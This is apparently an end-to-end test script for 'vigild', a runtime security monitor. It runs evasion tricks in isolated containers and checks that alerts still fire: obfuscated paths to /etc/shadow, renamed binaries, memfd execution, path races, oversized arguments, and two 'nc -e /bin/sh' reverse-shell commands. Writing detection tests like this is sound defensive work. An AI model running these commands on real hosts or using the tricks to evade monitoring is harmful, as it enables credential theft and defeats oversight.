#!/usr/bin/env bash
# End-to-end: the tricks that hide what a program opens or runs, each done
# for real in a podman container, and the alert read back from journald with
# the exact values vigild saw. The default rules run with probe rules
# (tests/data/evasion_rules.yaml) that output every field in question, and
# rule_matching: all, so one event raises both. Test programs come from
# tests/e2e/evasion.c, built static and mounted read-only at /ev/evasion.
# Run as root: tests/e2e/evasion.sh build/vigild
set -uo pipefail

VIGILD=$(realpath "${1:-build/vigild}")
top=$(cd "$(dirname "$0")/../.." && pwd)
IMAGE=${VIGIL_TEST_IMAGE:-localhost/vigil-test:1}
work=$(mktemp -d /tmp/vigil-evasion.XXXXXX)
vigild_pid=
. "$top/tests/e2e/lib.sh"

"$top/tests/setup-host.sh" journald || exit 1
"$top/tests/setup-host.sh" podman || exit 1

cleanup() {
	[ -n "$vigild_pid" ] && kill "$vigild_pid" 2>/dev/null && wait "$vigild_pid" 2>/dev/null
	remove_containers vigil-ev
	rm -rf "$work"
}
trap cleanup EXIT

if ! cc -static -O2 -Wall -Wextra -Werror -pthread -o "$work/evasion" \
	"$top/tests/e2e/evasion.c"; then
	echo "0 passed, 1 failed"
	exit 1
fi

# in_container NAME SCRIPT: runs a busybox shell script in a fresh container,
# the test program mounted; its stdout goes to $work/NAME.out.
in_container() {
	podman run --rm --network=none --name "$1" -v "$work/evasion:/ev/evasion:ro" \
		"$IMAGE" sh -c "$2" >"$work/$1.out" 2>/dev/null
}

# expect_long_field WHAT FIELD VALUE: expect_field for a value too long to print.
expect_long_field() {
	local got
	got=$(jq -r --arg f "$2" '.[$f] // "<missing>"' "$work/alert.json")
	if [ "$got" = "$3" ]; then
		pass "$1: $2 as expected (${#3} bytes)"
	else
		fail "$1: $2 is '${got:0:80}...' (${#got} bytes), expected '${3:0:80}...' (${#3} bytes)"
	fi
}

# expect_fields WHAT FIELD VALUE...: checks several fields of the last alert.
expect_fields() {
	local what=$1
	shift
	while [ $# -ge 2 ]; do
		expect_field "$what" "$1" "$2"
		shift 2
	done
}

since=$(date +%s)
printf 'rule_matching: all\nrate_limit:\n  enabled: false\n' >"$work/vigil.yaml"
"$VIGILD" -c "$work/vigil.yaml" -r "$top/rules" -r "$top/tests/data/evasion_rules.yaml" \
	2>"$work/vigild.log" &
vigild_pid=$!
for _ in $(seq 100); do
	grep -q "running" "$work/vigild.log" && break
	kill -0 $vigild_pid 2>/dev/null || break
	sleep 0.1
done
if ! grep -q "running" "$work/vigild.log"; then
	cat "$work/vigild.log"
	echo "0 passed, 1 failed"
	exit 1
fi

# 1. Path tricks: fd.name is the file the kernel opened, fd.nameraw the path
# as given, and the default rule sees through each.
path_trick() {
	local name=$1 script=$2 raw=$3 type=$4
	in_container "$name" "$script"
	if wait_alert "$name" VIGIL_RULE="Read sensitive file untrusted" \
		VIGIL_CONTAINER_NAME="$name"; then
		expect_field "$name: default rule" VIGIL_FD_NAME /etc/shadow
	fi
	if wait_alert "$name" VIGIL_RULE="Evasion probe open" VIGIL_CONTAINER_NAME="$name"; then
		expect_fields "$name" VIGIL_FD_NAME /etc/shadow VIGIL_FD_NAMERAW "$raw" \
			VIGIL_EVT_TYPE "$type" VIGIL_EVT_IS_TRUNCATED false
	fi
}
path_trick vigil-ev-dotdot 'cat /etc/../etc/shadow' /etc/../etc/shadow openat
path_trick vigil-ev-procroot 'cat /proc/self/root/etc/shadow' /proc/self/root/etc/shadow openat
path_trick vigil-ev-symlink 'ln -s /etc/shadow /tmp/s && cat /tmp/s' /tmp/s openat
path_trick vigil-ev-dirfd '/ev/evasion dirfd /etc shadow' shadow openat
path_trick vigil-ev-openat2 '/ev/evasion openat2 //etc/./shadow' //etc/./shadow openat2
path_trick vigil-ev-relative 'cd /etc && cat .//./shadow' .//./shadow openat

# 2. Renamed and copied binaries: proc.exepath is the kernel's mm->exe_file.
# A shell copied to /tmp/x, run with argv[0] "sh": its own name is x, argv[0]
# lies, the exe is the copy; the cat it starts is that copy too (busybox runs
# its applets through /proc/self/exe).
in_container vigil-ev-copy 'cp /bin/busybox /tmp/x && exec -a sh /tmp/x -c "cat /etc/shadow"'
if wait_alert "copied shell" VIGIL_RULE="Evasion probe exec" VIGIL_CONTAINER_NAME=vigil-ev-copy \
	VIGIL_EVT_ARG_FILENAME=/tmp/x; then
	expect_fields "copied shell" VIGIL_PROC_EXEPATH /tmp/x VIGIL_PROC_NAME x \
		VIGIL_PROC_EXE sh VIGIL_PROC_CMDLINE "x -c cat /etc/shadow"
fi
if wait_alert "copied shell" VIGIL_RULE="Execution from /tmp or /dev/shm" \
	VIGIL_CONTAINER_NAME=vigil-ev-copy VIGIL_EVT_ARG_FILENAME=/tmp/x; then
	expect_field "copied shell: default rule" VIGIL_PROC_EXEPATH /tmp/x
fi
if wait_alert "copied shell's cat" VIGIL_RULE="Evasion probe open" \
	VIGIL_CONTAINER_NAME=vigil-ev-copy; then
	expect_fields "copied shell's cat" VIGIL_PROC_NAME cat VIGIL_PROC_EXEPATH /tmp/x
fi

# A symlink named ls: proc.name and proc.exe say ls, the exe is busybox.
in_container vigil-ev-link 'ln -s /bin/busybox /tmp/ls && /tmp/ls /'
if wait_alert "symlink named ls" VIGIL_RULE="Evasion probe exec" \
	VIGIL_CONTAINER_NAME=vigil-ev-link VIGIL_EVT_ARG_FILENAME=/tmp/ls; then
	expect_fields "symlink named ls" VIGIL_PROC_EXEPATH /bin/busybox VIGIL_PROC_NAME ls \
		VIGIL_PROC_EXE /tmp/ls VIGIL_PROC_IS_EXE_FROM_MEMFD false
fi

# Fileless: a copy of busybox run from a memfd (execveat AT_EMPTY_PATH).
in_container vigil-ev-memfd '/ev/evasion memfd /bin/busybox cat /etc/passwd'
if wait_alert "memfd exec" VIGIL_RULE="Evasion probe exec" VIGIL_CONTAINER_NAME=vigil-ev-memfd \
	VIGIL_PROC_IS_EXE_FROM_MEMFD=true; then
	expect_fields "memfd exec" VIGIL_PROC_EXEPATH /memfd:innocent \
		VIGIL_PROC_NAME memfd:innocent VIGIL_PROC_EXE /bin/busybox \
		VIGIL_EVT_ARG_FILENAME /dev/fd/4 VIGIL_PROC_ARGS "cat /etc/passwd"
fi
if wait_alert "memfd exec" VIGIL_RULE="Fileless execution via memfd" \
	VIGIL_CONTAINER_NAME=vigil-ev-memfd; then
	expect_fields "memfd exec: default rule" VIGIL_PROC_EXEPATH /memfd:innocent \
		VIGIL_PRIORITY Critical
fi
if wait_alert "memfd exec's open" VIGIL_RULE="Evasion probe open" \
	VIGIL_CONTAINER_NAME=vigil-ev-memfd; then
	expect_fields "memfd exec's open" VIGIL_FD_NAME /etc/passwd \
		VIGIL_PROC_EXEPATH /memfd:innocent
fi

# A program taking the name of one whose job is to read /etc/shadow: the
# default rule trusts the name only if the executable's own name agrees.
in_container vigil-ev-prctl '/ev/evasion rename sshd /etc/shadow'
if wait_alert "renamed by prctl" VIGIL_RULE="Read sensitive file untrusted" \
	VIGIL_CONTAINER_NAME=vigil-ev-prctl; then
	expect_field "renamed by prctl: default rule" VIGIL_PROC_NAME sshd
fi
if wait_alert "renamed by prctl" VIGIL_RULE="Evasion probe open" \
	VIGIL_CONTAINER_NAME=vigil-ev-prctl; then
	expect_fields "renamed by prctl" VIGIL_PROC_NAME sshd VIGIL_PROC_EXEPATH /ev/evasion
fi
in_container vigil-ev-sshd 'cp /ev/evasion /tmp/sshd && /tmp/sshd open /etc/shadow'
if wait_alert "copy named sshd" VIGIL_RULE="Read sensitive file untrusted" \
	VIGIL_CONTAINER_NAME=vigil-ev-sshd; then
	expect_field "copy named sshd: default rule" VIGIL_PROC_NAME sshd
fi

# 3. The path rewritten by a second thread while openat runs: fd.name is the
# file each descriptor really is, whatever the buffer said at exit.
in_container vigil-ev-race '/ev/evasion race 200 /etc/shadow /etc/passwd'
opened=$(wc -l <"$work/vigil-ev-race.out")
sort -n "$work/vigil-ev-race.out" >"$work/race.want"
for _ in $(seq 100); do
	journal_alerts VIGIL_RULE="Evasion probe open" VIGIL_CONTAINER_NAME=vigil-ev-race \
		VIGIL_PROC_NAME=evasion >"$work/race.json"
	[ "$(jq -s 'map(select((.VIGIL_FD_NUM | tonumber) >= 0)) | length' \
		"$work/race.json")" -ge "$opened" ] && break
	sleep 0.1
done
jq -r 'select((.VIGIL_FD_NUM | tonumber) >= 0) | "\(.VIGIL_FD_NUM) \(.VIGIL_FD_NAME)"' \
	"$work/race.json" | sort -n >"$work/race.got"
swapped=$(jq -s 'map(select((.VIGIL_FD_NUM | tonumber) >= 0 and
	.VIGIL_FD_NAME != .VIGIL_FD_NAMERAW)) | length' "$work/race.json")
if ! grep -q shadow "$work/race.want" || ! grep -q passwd "$work/race.want"; then
	fail "race: the flipping thread never changed the file opened"
elif cmp -s "$work/race.want" "$work/race.got"; then
	pass "race: $opened opens, each fd.name the file opened ($swapped with fd.nameraw swapped)"
else
	fail "race: fd.name differs from the file opened"
	diff "$work/race.want" "$work/race.got" | head
fi

# 4. Past the capture limits. A file 60 directories below /etc: the whole path.
# journalctl prints a field over 4096 bytes only with --all.
in_container vigil-ev-deep '/ev/evasion deep /etc 60 d'
want=$(cat "$work/vigil-ev-deep.out")
if wait_alert "60 deep below /etc" VIGIL_RULE="Write below etc in container" \
	VIGIL_CONTAINER_NAME=vigil-ev-deep; then
	expect_field "60 deep below /etc: default rule" VIGIL_FD_NAME "$want"
fi
if wait_alert "60 deep below /etc" VIGIL_RULE="Evasion probe write" \
	VIGIL_CONTAINER_NAME=vigil-ev-deep; then
	expect_fields "60 deep below /etc" VIGIL_FD_NAME "$want" VIGIL_FD_NAMERAW f \
		VIGIL_EVT_IS_TRUNCATED false
fi
# Longer than an event's path (4095 bytes), then than the kernel-side path
# buffer (8191): the head from the root, flagged, so "/etc/" still matches.
for long in "30 $(printf '%0200d' 0)" "40 $(printf '%0255d' 0)"; do
	name=vigil-ev-long${long%% *}
	in_container "$name" "/ev/evasion deep /etc $long"
	want=$(head -c 4095 "$work/$name.out")
	what="path of $(($(wc -c <"$work/$name.out") - 1)) bytes"
	if wait_alert "$what" --all VIGIL_RULE="Write below etc in container" \
		VIGIL_CONTAINER_NAME="$name"; then
		expect_long_field "$what: default rule" VIGIL_FD_NAME "$want"
	fi
	if wait_alert "$what" --all VIGIL_RULE="Evasion probe write" VIGIL_CONTAINER_NAME="$name"; then
		expect_long_field "$what" VIGIL_FD_NAME "$want"
		expect_field "$what" VIGIL_EVT_IS_TRUNCATED true
	fi
done

# argv over 4096 bytes: cut and flagged; a rule on its start still matches.
filler=$(printf 'A%.0s' $(seq 5000))
podman run --rm --network=none --name vigil-ev-argv "$IMAGE" \
	nc -e /bin/sh 127.0.0.1 4444 "$filler" >/dev/null 2>&1
want="-e /bin/sh 127.0.0.1 4444 $filler"
want=${want:0:4092} # 4096 bytes of argv: "nc", the rest, their NULs
if wait_alert "long argv" VIGIL_RULE="Netcat remote code execution in container" \
	VIGIL_CONTAINER_NAME=vigil-ev-argv; then
	expect_field "long argv: default rule" VIGIL_PROC_NAME nc
fi
if wait_alert "long argv" --all VIGIL_RULE="Evasion probe exec" \
	VIGIL_CONTAINER_NAME=vigil-ev-argv VIGIL_PROC_NAME=nc; then
	expect_field "long argv" VIGIL_EVT_IS_TRUNCATED true
	expect_long_field "long argv" VIGIL_PROC_ARGS "$want"
fi

# 5. Names a program gives itself. exec -a changes argv[0] (proc.exe) only;
# proc.name is the file name the kernel ran, proc.cmdline starts with it.
in_container vigil-ev-argv0 'exec -a innocent /ev/evasion open /etc/shadow'
if wait_alert "exec -a" VIGIL_RULE="Read sensitive file untrusted" \
	VIGIL_CONTAINER_NAME=vigil-ev-argv0; then
	expect_fields "exec -a: default rule" VIGIL_PROC_NAME evasion \
		VIGIL_PROC_CMDLINE "evasion open /etc/shadow"
fi
if wait_alert "exec -a" VIGIL_RULE="Evasion probe open" VIGIL_CONTAINER_NAME=vigil-ev-argv0; then
	expect_fields "exec -a" VIGIL_PROC_NAME evasion VIGIL_PROC_EXE innocent \
		VIGIL_PROC_EXEPATH /ev/evasion VIGIL_PROC_CMDLINE "evasion open /etc/shadow"
fi

# A busybox shell runs its applets through /proc/self/exe: the kernel names
# them "exe"; argv[0] says nc, and the default rule looks at both.
in_container vigil-ev-applet 'nc -e /bin/sh 127.0.0.1 4444; true'
if wait_alert "busybox applet" VIGIL_RULE="Netcat remote code execution in container" \
	VIGIL_CONTAINER_NAME=vigil-ev-applet; then
	expect_fields "busybox applet: default rule" VIGIL_PROC_NAME exe \
		VIGIL_PROC_CMDLINE "exe -e /bin/sh 127.0.0.1 4444"
fi
if wait_alert "busybox applet" VIGIL_RULE="Evasion probe exec" \
	VIGIL_CONTAINER_NAME=vigil-ev-applet VIGIL_PROC_NAME=exe; then
	expect_fields "busybox applet" VIGIL_PROC_EXE nc VIGIL_PROC_EXEPATH /bin/busybox \
		VIGIL_EVT_ARG_FILENAME /proc/self/exe
fi

# A #!/bin/sh script: the kernel runs the interpreter, so proc.exepath is
# busybox; proc.name is the script's file name, argv[0] the interpreter's path.
in_container vigil-ev-script \
	'printf "#!/bin/sh\ncat /etc/shadow\n" >/tmp/job.sh && chmod +x /tmp/job.sh && /tmp/job.sh'
if wait_alert "script" VIGIL_RULE="Evasion probe exec" VIGIL_CONTAINER_NAME=vigil-ev-script \
	VIGIL_EVT_ARG_FILENAME=/tmp/job.sh; then
	expect_fields "script" VIGIL_PROC_EXEPATH /bin/busybox VIGIL_PROC_NAME job.sh \
		VIGIL_PROC_EXE /bin/sh VIGIL_PROC_CMDLINE "job.sh /tmp/job.sh"
fi
if wait_alert "script" VIGIL_RULE="Execution from /tmp or /dev/shm" \
	VIGIL_CONTAINER_NAME=vigil-ev-script VIGIL_EVT_ARG_FILENAME=/tmp/job.sh; then
	expect_field "script: default rule" VIGIL_PROC_EXEPATH /bin/busybox
fi
if wait_alert "script's cat" VIGIL_RULE="Read sensitive file untrusted" \
	VIGIL_CONTAINER_NAME=vigil-ev-script; then
	expect_fields "script's cat" VIGIL_PROC_NAME cat VIGIL_PROC_PNAME job.sh
fi

echo "$passed passed, $failed failed"
[ $failed -eq 0 ]
